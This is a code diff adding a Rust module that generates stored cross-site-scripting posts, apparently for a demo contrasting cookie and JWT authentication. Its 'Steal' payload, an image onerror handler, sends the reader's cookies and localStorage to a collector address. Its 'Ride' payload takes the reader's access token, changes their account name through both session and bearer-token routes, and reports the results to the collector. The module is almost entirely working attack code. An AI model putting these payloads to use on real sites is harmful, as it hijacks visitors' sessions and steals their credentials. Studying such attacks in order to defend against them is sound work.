@@ -1,0 +1,39 @@
+//! What a thief posts: images that fail to load, and say what to do then. A `<script>` that is put into a page later
+//! would not run.
+
+use serde::Deserialize;
+
+/// What a post does in its reader's page.
+#[derive(Clone, Copy, Debug, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub(super) enum Payload {
+    /// Sends home whatever a script can read.
+    Steal,
+    /// Acts as whoever reads it: changes their name, through either door, and tells.
+    Ride,
+}
+
+impl Payload {
+    /// The post, which sends to the address `collect`.
+    pub(super) fn html(self, collect: &str) -> String {
+        let script = match self {
+            Self::Steal => format!(
+                "fetch('{collect}',{{method:'POST',mode:'no-cors',\
+                 body:JSON.stringify({{localStorage,cookie:document.cookie}})}})"
+            ),
+            Self::Ride => RIDE.replace("COLLECT", collect),
+        };
+        format!("<img src=\"/no-such-image\" alt=\"\" onerror=\"{script}\">")
+    }
+}
+
+/// Sends two requests as the reader: one that the browser adds the cookie to, and one to which the script adds what it
+/// found. It learns the answers, for it runs on their origin.
+const RIDE: &str = "(async()=>{\
+    const t=localStorage.access_token,\
+    put=(p,h)=>fetch(p,{method:'PUT',headers:{'content-type':'application/json',...h},\
+    body:JSON.stringify({name:'Mallory was here'})}).then(r=>r.status),\
+    session=await put('/api/session/name',{}),\
+    jwt=t?await put('/api/jwt/name',{authorization:'Bearer '+t}):0;\
+    fetch('COLLECT',{method:'POST',mode:'no-cors',body:JSON.stringify({session,jwt,cookie:document.cookie,localStorage:{}})})\
+    })()";
